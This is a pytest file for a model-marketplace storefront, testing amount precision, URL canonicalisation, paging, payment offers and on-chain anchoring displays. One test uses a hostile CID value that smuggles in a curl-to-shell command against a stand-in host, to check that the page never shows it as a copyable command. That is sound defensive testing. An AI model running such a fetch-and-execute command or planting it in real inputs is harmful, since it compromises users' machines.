"""Storefront pages over HTTP on a real anvil and SQLite: amounts past 64 bits are exact,
a listing's CID never becomes a shell command to copy, seller URLs are canonical, and
bad addresses are a clear 404 page. (The browser tests cover what a user sees.)"""

from __future__ import annotations

import io
import re
import time
from typing import Any

import orjson

from app import create_app
from storage.local import LocalStore
from tests.support.world import PRICE, World, buy, infer, sign_in


def test_earnings_past_64_bits_are_exact_on_sqlite(world: World):
    buyer, seller = world.signers[2], world.signers[1]
    calls = 10_000  # 10^19 smallest units: more than SQLite's largest integer
    world.market.approve(buyer, calls * PRICE)
    world.market.purchase(buyer, world.model_id, calls, PRICE)
    world.market.approve(buyer, calls * PRICE)
    world.market.purchase(buyer, world.model_id, calls, PRICE)
    world.mine(1)
    world.index()
    page = world.client.get(f"/sellers/{seller.address}")  # type: ignore[attr-defined]
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    # 2 x 10 MMT, less the 2.5 % fee: 19.5 MMT, to the last unit
    assert "<td>19.5</td>" in html
    assert '<strong id="owed">19.5 MMT</strong>' in html


def test_a_cid_that_is_not_a_cid_is_never_a_command_to_copy(world: World):
    store = LocalStore(world.settings.store_dir)
    card = store.add(io.BytesIO(orjson.dumps({"name": "Innocent"})))
    hostile = "x; curl http://evil.example/i|sh #"
    model_id, _ = world.market.list_model(world.signers[1], hostile, card, PRICE)
    world.mine(1)
    world.index()
    html = world.client.get(f"/models/{model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert "ipfs cat x;" not in html and "export-car x;" not in html
    assert "These are not valid CIDs" in html
    good = world.client.get(f"/models/{world.model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert re.search(r"ipfs cat bafk[a-z2-7]+ &gt; model.onnx", good)


def test_seller_urls_are_canonical_and_bad_ones_a_clear_404(world: World):
    checksum = world.signers[1].address
    moved = world.client.get(f"/sellers/{checksum.lower()}")  # type: ignore[attr-defined]
    assert moved.status_code == 301 and moved.headers["Location"].endswith(checksum)
    for bad in ("nothex", checksum[2:], "0X" + checksum[2:], checksum + "00"):
        page = world.client.get(f"/sellers/{bad}")  # type: ignore[attr-defined]
        assert page.status_code == 404, bad
        assert page.mimetype == "text/html"
        assert 'data-error="not_found"' in page.get_data(as_text=True)


def test_the_catalog_pages_sorts_and_filters(world: World):
    store = LocalStore(world.settings.store_dir)
    iris = world.market.listing(world.model_id).model_cid
    for n in range(13):  # 14 offered with the world's own: two pages of 12
        card = store.add(io.BytesIO(orjson.dumps({"name": f"Model {n:02}", "tags": ["bulk"]})))
        world.market.list_model(world.signers[1], iris, card, PRICE * (n + 2))
    world.mine(1)
    world.index()
    client = world.client

    def names(query: str) -> list[str]:
        html = client.get("/" + query).get_data(as_text=True)  # type: ignore[attr-defined]
        return re.findall(r'<h2><a href="/models/\d+">([^<]+)</a></h2>', html)

    first = client.get("/?sort=price_asc").get_data(as_text=True)  # type: ignore[attr-defined]
    assert "14 models" in first and "Page 1 of 2" in first
    assert 'rel="next" href="/?sort=price_asc&amp;page=2"' in first
    assert names("?sort=price_asc")[:2] == ["Iris", "Model 00"]
    assert names("?sort=price_asc&page=2") == ["Model 11", "Model 12"]
    assert names("?sort=price_desc")[0] == "Model 12"
    assert len(names("?tag=bulk")) == 12 and "Iris" not in names("?tag=bulk")
    assert names("?q=model+07") == ["Model 07"]
    assert names("?page=3") == []


def test_the_model_page_offers_x402_only_while_it_can_be_paid(world: World):
    page = world.client.get(f"/models/{world.model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert 'id="x402"' in page
    assert f"modelmarket infer {world.model_id} --input in.json --x402" in page
    assert f"max_amount={PRICE}" in page
    world.market.delist(world.signers[1], world.model_id)  # no longer sold: no x402 offer
    world.mine(1)
    world.index()
    world.client.application.extensions["modelmarket"].listing(world.model_id, max_age=0)  # type: ignore[attr-defined]
    delisted = world.client.get(f"/models/{world.model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert 'id="x402"' not in delisted


def anchored_fact(html: str) -> str:
    """The model page's "Calls anchored" figure, as text."""
    found = re.search(r'<dd id="anchored">(.*?)</dd>', html, re.S)
    assert found is not None
    return re.sub(r"<[^>]+>", "", found.group(1))


def test_the_pages_show_the_calls_anchored_on_chain(world: World):
    gateway: Any = world.client.application.extensions["modelmarket"]  # type: ignore[attr-defined]
    gateway.anchorer.period = 3600.0  # the period closes when the test says
    seller = world.signers[1].address
    anchorer = gateway.identity.address
    before = anchored_fact(world.client.get(f"/models/{world.model_id}").get_data(as_text=True))  # type: ignore[attr-defined]
    assert before.startswith("no calls anchored yet")
    assert f"verifiable with modelmarket verify; gateway {anchorer} anchors them" in before

    key = sign_in(world, 2)
    buy(world, 2, 3)
    world.index()
    for _ in range(3):
        assert infer(world, key).status_code == 200
    gateway.prepaid.flush()  # the calls' rows (and receipts) written
    gateway.anchorer.stop()  # its thread would race this round (a request restarts it)
    assert gateway.anchorer.run_once(time.time() + 3600) == 1
    gateway.anchored(max_age=0)  # the pages read it through a 30 s cache

    html = world.client.get(f"/models/{world.model_id}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert anchored_fact(html).startswith("3 calls anchored on-chain in 1 batch")
    dashboard = world.client.get(f"/sellers/{seller}").get_data(as_text=True)  # type: ignore[attr-defined]
    assert '<th scope="col">Anchored</th>' in dashboard
    assert re.search(
        r'<td class="anchored"[^>]*>3 <span class="note">in 1 batch</span></td>', dashboard
    )


def test_the_pages_render_with_receipts_off(world: World):
    app = create_app(world.settings.model_copy(update={"settler_key": None}))
    gateway: Any = app.extensions["modelmarket"]
    try:
        assert gateway.identity is None and not gateway.receipts_on
        page = app.test_client().get(f"/models/{world.model_id}")
        assert page.status_code == 200
        assert anchored_fact(page.get_data(as_text=True)) == "no calls anchored yet"
        seller = app.test_client().get(f"/sellers/{world.signers[1].address}")
        assert seller.status_code == 200
        assert (
            '<td class="anchored" title="calls whose usage receipts are anchored on-chain">0</td>'
            in seller.get_data(as_text=True)
        )
    finally:
        gateway.prepaid.close()
        gateway.x402.close()
